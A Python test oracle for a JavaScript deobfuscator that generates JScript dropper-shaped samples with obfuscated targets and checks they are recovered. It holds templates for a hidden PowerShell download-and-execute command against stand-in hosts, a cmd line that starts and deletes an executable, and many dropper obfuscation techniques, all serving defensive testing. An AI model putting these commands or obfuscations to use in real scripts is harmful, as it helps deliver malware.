#!/usr/bin/env python3
"""js_oracle.py - deob_js() (src/deob/js.c) against obfuscations built here.

usage: js_oracle.py --driver JS_DRIVER --work DIR [--cases N] [--seed S]

Each case is a random target (a download URL, a PowerShell or cmd command
line, a file path) hidden the way JScript droppers hide theirs: an
expression tree of literals with random quotes and escapes, '+' of pieces,
String.fromCharCode (decimal, hex, sums), split("")/reverse()/join(""),
replace of a junk marker (string or /literal/g), split(x).join(""),
unescape, decodeURIComponent, atob, variables, arrays of pieces indexed by
constants, and eval / new Function of generated code, nested.  Every node
has its own Python value (the reference folder: Python's own str, base64
and urllib.parse.quote), and the tree's value must equal the target before
the case is used.  The script is written into a WSH dropper shape
(XMLHTTP open, WScript.Shell Run, a plain assignment) with noise around;
the driver (one JSON object per recovered string) must report the target,
as "js folding" or "js eval".  Exit 0 when every case is recovered.
"""
import argparse
import base64
import json
import os
import random
import subprocess
import sys
import urllib.parse


class Ctx:
    """Declarations emitted before the final statement; fresh names."""

    def __init__(self, rnd):
        self.rnd = rnd
        self.decls = []
        self.n = 0

    def name(self):
        self.n += 1
        return "_0x%x%s" % (self.rnd.randint(0x100, 0xfff), "abcdefgh"[self.n % 8] * self.n)


def js_literal(rnd, s, allow_tpl=True):
    """A JavaScript literal whose value is s, with random quotes and escapes."""
    q = rnd.choice(["'", '"', "`"] if allow_tpl else ["'", '"'])
    out = []
    for ch in s:
        c = ord(ch)
        r = rnd.random()
        if ch in (q, "\\") or (q == "`" and ch == "$"):
            out.append("\\" + ch)
        elif ch == "\n":
            out.append("\\n")
        elif c > 0xFFFF:
            hi, lo = 0xD800 + ((c - 0x10000) >> 10), 0xDC00 + ((c - 0x10000) & 0x3FF)
            out.append("\\u%04x\\u%04X" % (hi, lo))
        elif r < 0.1 and c < 0x100:
            out.append("\\x%02x" % c)
        elif r < 0.2:
            out.append("\\u%04x" % c)
        else:
            out.append(ch)
    return q + "".join(out) + q


def pieces(rnd, s, k):
    """s cut into k non-empty pieces (fewer if s is short)."""
    k = max(1, min(k, len(s)))
    cuts = sorted(rnd.sample(range(1, len(s)), k - 1)) if k > 1 else []
    b = [0] + cuts + [len(s)]
    return [s[b[i]:b[i + 1]] for i in range(len(b) - 1)]


def obf(ctx, s, depth, top=False, avoid=None):
    """
    (js expression, python value) for s: the value must equal s.  avoid: a
    kind not to use (reverse under reverse would put s itself in the source
    as a plain literal, which the folder rightly does not report).
    """
    rnd = ctx.rnd
    if not s:
        return js_literal(rnd, ""), ""
    kinds = ["concat", "chr", "reverse", "replace", "splitjoin", "unescape", "uri", "atob",
             "var", "array", "eval", "function"]
    if depth <= 0:
        kinds = ["lit"] if not top else ["concat", "chr"]
    k = rnd.choice([x for x in kinds if x != avoid])
    if not s.isascii() and k in ("atob",):
        k = "concat"
    if k == "lit":
        return js_literal(rnd, s), s
    if k == "concat":
        parts = pieces(rnd, s, rnd.randint(2, 5))
        if len(parts) == 1:
            return obf(ctx, s, 0, top=False) if not top else chr_(ctx, s)
        subs = [obf(ctx, p, depth - 1) for p in parts]
        return " + ".join(e for e, _ in subs), "".join(v for _, v in subs)
    if k == "chr":
        return chr_(ctx, s)
    if k == "reverse":
        e, v = obf(ctx, s[::-1], depth - 1, avoid="reverse")
        if any(ord(c) > 0xFFFF for c in s):
            return chr_(ctx, s)
        return "(%s).split('').reverse().join('')" % e, v[::-1]
    if k == "replace":
        marker = rnd.choice([m for m in ["XX", "~", "#_#", "qz", "!!", "@@@"] if m not in s])
        junk = "".join(c + (marker if rnd.random() < 0.4 else "") for c in s) + marker
        e, v = obf(ctx, junk, depth - 1)
        if rnd.random() < 0.5:
            pat = "/" + "".join("\\" + c if not c.isalnum() else c for c in marker) + "/g"
        else:
            pat = js_literal(rnd, marker, allow_tpl=False)
            if v.count(marker) > 1:
                return "(%s).replaceAll(%s, '')" % (e, pat), v.replace(marker, "")
        return "(%s).replace(%s, '')" % (e, pat), (
            v.replace(marker, "") if pat.startswith("/") else v.replace(marker, "", 1))
    if k == "splitjoin":
        sep = rnd.choice([",", "|", "%%", "<>"])
        parts = pieces(rnd, s, rnd.randint(2, 6))
        if sep in s or len(parts) < 2:
            return chr_(ctx, s)
        return "(%s).split(%s).join('')" % (js_literal(rnd, sep.join(parts)),
                                             js_literal(rnd, sep)), "".join(parts)
    if k == "unescape":
        enc = "".join(("%%%02X" % ord(c)) if ord(c) < 0x100 and rnd.random() < 0.7 else
                      ("%%u%04X" % ord(c)) if ord(c) <= 0xFFFF and rnd.random() < 0.5 and
                      ord(c) > 0x7F else c for c in s)
        if enc == s:
            enc = "%%%02X" % ord(s[0]) + s[1:] if ord(s[0]) < 0x100 else enc
        if enc == s or "%" in s:
            return chr_(ctx, s)
        return "unescape(%s)" % js_literal(rnd, enc), s
    if k == "uri":
        enc = urllib.parse.quote(s, safe="" if rnd.random() < 0.5 else "/:")
        if enc == s or "%" in s:
            return chr_(ctx, s)
        return "decodeURIComponent(%s)" % js_literal(rnd, enc), urllib.parse.unquote(enc)
    if k == "atob":
        return "atob(%s)" % js_literal(rnd, base64.b64encode(s.encode()).decode()), \
            base64.b64decode(base64.b64encode(s.encode())).decode()
    if k == "var":
        e, v = obf(ctx, s, depth - 1, top=top, avoid=avoid)
        n = ctx.name()
        ctx.decls.append("var %s = %s;" % (n, e))
        return n, v
    if k == "array":
        parts = pieces(rnd, s, rnd.randint(2, 6))
        order = list(range(len(parts)))
        rnd.shuffle(order)
        n = ctx.name()
        items = [None] * len(parts)
        for slot, i in enumerate(order):
            items[slot] = js_literal(rnd, parts[i])
        ctx.decls.append("var %s = [%s];" % (n, ", ".join(items)))
        idx = {i: slot for slot, i in enumerate(order)}
        expr = " + ".join("%s[%s]" % (n, (hex(idx[i]) if rnd.random() < 0.3 else str(idx[i])))
                          for i in range(len(parts)))
        return expr, "".join(parts)
    if k in ("eval", "function"):
        # code that computes s into a variable, run by eval / new Function
        inner = Ctx(rnd)
        inner.n = ctx.n + 100
        e, v = obf(inner, s, depth - 1, top=True, avoid=avoid)
        n = ctx.name()
        code = " ".join(inner.decls + ["var %s = %s;" % (n, e)])
        if k == "eval":
            ctx.decls.append("eval(%s);" % js_literal(rnd, code, allow_tpl=False))
        else:
            ctx.decls.append("new Function(%s)();" % js_literal(rnd, code, allow_tpl=False))
        # the value lives in the eval'ed code; the outer script builds it again
        return obf(ctx, s, 0, top=True)
    raise AssertionError(k)


def chr_(ctx, s):
    rnd = ctx.rnd
    units = []
    for c in s:
        o = ord(c)
        if o > 0xFFFF:
            o -= 0x10000
            units += [0xD800 + (o >> 10), 0xDC00 + (o & 0x3FF)]
        else:
            units.append(o)
    args = []
    for u in units:
        r = rnd.random()
        if r < 0.3:
            args.append(hex(u))
        elif r < 0.45 and u > 10:
            a = rnd.randint(1, u - 1)
            args.append("%d + %d" % (a, u - a))
        elif r < 0.5 and u > 10:
            args.append("%d - %d" % (u + 7, 7))
        else:
            args.append(str(u))
    v = "".join(chr(u) for u in units).encode("utf-16-le", "surrogatepass").decode("utf-16-le")
    return "String.fromCharCode(%s)" % ", ".join(args), v


def target(rnd):
    host = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                   for _ in range(rnd.randint(3, 14)))
    k = rnd.random()
    if k < 0.5:
        path = "/".join("".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789_-.")
                                for _ in range(rnd.randint(1, 10)))
                        for _ in range(rnd.randint(1, 3)))
        return "%s://%s.%s/%s" % (rnd.choice(["http", "https"]), host,
                                  rnd.choice(["example", "test", "invalid"]), path)
    if k < 0.7:
        b64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://{}/')"
                               .format(host).encode("utf-16-le")).decode()
        return "powershell -w hidden -enc " + b64[:rnd.randint(8, len(b64))]
    if k < 0.85:
        return "cmd /c start %%TEMP%%\\%s.exe & del \"%s\"" % (host, host)
    # a path with non-ASCII characters (a Japanese user's folder)
    return "C:\\Users\\%s\\AppData\\%s\\%s.js" % (rnd.choice(["田中", "Jürgen", "user"]), host,
                                                  rnd.choice(["請求書", "invoice", "x😀"]))


NOISE = [
    "var fso = new ActiveXObject('Scripting.FileSystemObject');",
    "function pad(a, b) { return a + b; }",
    "if (typeof WScript !== 'undefined') { WScript.Sleep(10); }",
    "for (var i = 0; i < 3; i++) { junk = i * 2; }",
    "// a comment with 'quotes' and http://nothing.example",
    "/* block\n comment */",
    "var n = 0x1f + 2 * 3;",
    "try { x = y.z; } catch (e) {}",
]


def make_case(rnd):
    t = target(rnd)
    ctx = Ctx(rnd)
    expr, value = obf(ctx, t, rnd.randint(1, 4), top=True)
    assert value == t, (value, t)
    lines = []
    for d in ctx.decls:
        if rnd.random() < 0.3:
            lines.append(rnd.choice(NOISE))
        lines.append(d)
    shape = rnd.choice(["xhr", "run", "assign"])
    if shape == "xhr":
        lines.append("var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', %s, false); "
                     "x.send();" % expr)
    elif shape == "run":
        lines.append("WScript.CreateObject('WScript.Shell').Run(%s, 0, true);" % expr)
    else:
        lines.append("var target = %s;" % expr)
    if rnd.random() < 0.5:
        lines.append(rnd.choice(NOISE))
    return "\r\n".join(lines) + "\r\n", t


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--driver", required=True)
    ap.add_argument("--work", required=True)
    ap.add_argument("--cases", type=int, default=500)
    ap.add_argument("--seed", type=int, default=18)
    a = ap.parse_args()
    os.makedirs(a.work, exist_ok=True)
    rnd = random.Random(a.seed)
    bad = 0
    for i in range(a.cases):
        src, want = make_case(rnd)
        path = os.path.join(a.work, "case%04d.js" % i)
        with open(path, "w", encoding="utf-8") as f:
            f.write(src)
        p = subprocess.run([a.driver, path], capture_output=True, timeout=60)
        got = []
        for line in p.stdout.decode("utf-8").splitlines():
            o = json.loads(line)
            if "how" in o:
                got.append((o["how"], o["value"]))
        ok = p.returncode == 0 and any(v == want and h in ("js folding", "js eval")
                                       for h, v in got)
        if not ok:
            bad += 1
            if bad <= 5:
                print("case %d (%s): want %r\n  got %r\n  source:\n%s" % (i, path, want, got,
                                                                       src[:1500]))
    print("js oracle: %d cases, %d not recovered" % (a.cases, bad))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
